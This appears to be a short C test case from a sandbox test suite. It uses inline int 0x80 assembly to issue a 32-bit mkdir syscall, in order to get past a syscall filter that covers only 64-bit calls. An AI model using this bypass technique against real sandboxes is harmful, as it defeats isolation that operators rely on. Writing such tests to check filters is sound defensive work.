// int 0x80, the calls of 32 bits, past a filter of the others
#include "hostile.h"
static void attack(void) {
  char* name = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
  long result = 39;
  if (name == MAP_FAILED) return;
  strcpy(name, AREA "/int80");
  __asm__ volatile("int $0x80" : "+a"(result) : "b"(name), "c"(0777) : "memory", "r8", "r9", "r10", "r11");
}
MAIN
